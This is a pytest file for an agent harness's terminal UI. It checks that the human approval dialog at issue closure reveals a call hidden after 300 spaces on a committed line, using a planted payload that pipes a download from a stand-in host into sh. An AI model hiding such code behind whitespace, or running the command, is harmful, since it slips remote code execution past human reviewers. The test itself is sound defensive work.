"""A 372-column line at a closure, in a real terminal (tmux, 80×24, 16 colours).

A real daemon runs a stand-in agent (:mod:`tests.tui.closure_agent`) that waits at
issue_closure over a real commit: ``__version__ = "0.2.0"``, 300 spaces, then a call.
``python -m tui.main`` in tmux opens it with ``c``: the dialog says there is a line to
read whole, ``]`` scrolls to the code and the call after the blanks is on the screen
(``·×300`` in place of the blanks, the rest on a row starting with ``↪``); ``f`` shows
the diff full screen, ``p`` hands it to ``$PAGER`` (the TUI suspended, then back),
and ``y`` approves it. Only 16 colours are used, and nothing depends on them.
"""

from __future__ import annotations

import re
import shlex
import subprocess
import sys
from pathlib import Path

import pytest

from agent.daemon import lifecycle
from agent.daemon.client import DaemonClient
from agent.frontend.demo import prepare_demo
from common.paths import WorkspaceFiles, harness_home
from common.schemas.spec import AgentSpec
from common.workspace import checkpoints
from tests.tui.conftest import REPO_ROOT
from tests.tui.test_tmux import Tmux, pytestmark, tmux

__all__ = ["pytestmark", "tmux"]

PAYLOAD = '; __import__("os").system("curl -s x.example | sh")'
PADDED = '__version__ = "0.2.0"' + " " * 300 + PAYLOAD
AGENT = Path(__file__).with_name("closure_agent.py")
#: Colours beyond the 16 of the ANSI palette: 256-colour and true-colour SGR parameters.
WIDE_COLOUR = re.compile(r"\x1b\[[0-9;]*[34]8;[25];")
#: The cells around a row of text: the dialog's border, a scrollbar, the focus bar, blanks.
FRAME = " █▀▄▁▂▃▄▅▆▇▎▊▌│┃"


def joined(screen: str) -> str:
    """The pane's rows, each wrapped line joined at its ``↪`` and frames dropped, blanks
    removed (a row may end on one): the text a person reads across the rows."""
    rows = [row.strip(FRAME).replace(" ", "") for row in screen.splitlines()]
    out: list[str] = []
    for row in rows:
        if row.startswith("↪") and out:
            out[-1] += row[1:]
        else:
            out.append(row)
    return "\n".join(out)


def shows_the_payload(screen: str) -> bool:
    whole = f'+__version__ = "0.2.0"·×300{PAYLOAD}'.replace(" ", "")
    return whole in joined(screen)


def project_with_the_padded_line(scratch: Path) -> AgentSpec:
    """The demo's spec, its project with a commit that adds the 372-column line."""
    spec = prepare_demo(scratch / "demo", auto_accept=False)
    core = spec.project_dir / "textkit" / "core.py"
    core.write_text(f"{PADDED}\n")
    identity = ["-c", "user.name=Model", "-c", "user.email=model@localhost"]
    for args in (["add", "textkit/core.py"], [*identity, "commit", "-qm", "feat(#1): bump"]):
        subprocess.run(["git", "-C", str(spec.project_dir), *args], check=True)
    return spec


async def test_the_whole_372_column_line_in_a_real_terminal_at_80x24(
    tmux: Tmux, scratch: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PYTHONPATH", str(REPO_ROOT))
    spec = project_with_the_padded_line(scratch)
    command = f"{shlex.quote(sys.executable)} {shlex.quote(str(AGENT))} {{workspace}}"
    await lifecycle.start_daemon(daemon_args=["--agent-command", command])
    async with DaemonClient.connect() as client:
        info = await client.start(spec)
    files = WorkspaceFiles(info.workspace)
    paged = scratch / "paged.txt"
    pager = scratch / "pager.sh"
    pager.write_text(f"#!/bin/sh\ncat > {shlex.quote(str(paged))}\n")
    pager.chmod(0o755)

    tui = f"{shlex.quote(sys.executable)} -m tui.main --no-daemon-start"
    tmux.run(
        "new-session", "-d", "-s", "tui", "-x", "80", "-y", "24", "-c", str(REPO_ROOT),
        "-e", f"HARNESS_HOME={harness_home()}", "-e", f"PYTHONPATH={REPO_ROOT}",
        "-e", f"PAGER={pager}", "-e", "TEXTUAL_COLOR_SYSTEM=standard",
        f"{tui}; echo TUI-EXITED-$?; sleep 600",
    )  # fmt: skip
    await tmux.wait_for(lambda s: "1 checkpoint waits" in s, "the ⚑")
    tmux.run("send-keys", "-t", "tui", "c")
    await tmux.wait_for(lambda s: "HITL CHECKPOINT: ISSUE CLOSURE" in s, "the dialog")
    assert "⚠ 1 line of the diff to read whole" in tmux.screen()

    tmux.run("send-keys", "-t", "tui", "]")
    screen = await tmux.wait_for(shows_the_payload, "the call after the blanks")
    assert "·×300" in screen and "↪" in screen
    coloured = tmux.run("capture-pane", "-p", "-e", "-t", "tui")
    assert "\x1b[" in coloured and not WIDE_COLOUR.search(coloured)  # 16 colours only

    tmux.run("send-keys", "-t", "tui", "f")
    await tmux.wait_for(lambda s: "DIFF: ISSUE CLOSURE" in s and shows_the_payload(s), "full")
    assert "textkit/core.py line 1: 372 characters, 300 of them spaces in a row" in tmux.screen()
    tmux.run("send-keys", "-t", "tui", "p")  # the pager reads it all and ends at once
    await tmux.wait_for(lambda _: paged.exists() and PAYLOAD in paged.read_text(), "the pager")
    assert f"+{PADDED}" in paged.read_text()
    await tmux.wait_for(lambda s: "DIFF: ISSUE CLOSURE" in s, "the TUI back from the pager")

    tmux.run("send-keys", "-t", "tui", "Escape")
    await tmux.wait_for(lambda s: "HITL CHECKPOINT: ISSUE CLOSURE" in s, "the dialog again")
    tmux.run("send-keys", "-t", "tui", "y")

    def approved() -> bool:
        found = checkpoints.current(files)
        decision = found.decision if found is not None else None
        return decision is not None and decision.approved

    await tmux.wait_for(lambda _: approved(), "the approval")
    found = checkpoints.current(files)
    assert found is not None and found.decision is not None
    assert found.decision.decided_by.startswith("tui:")
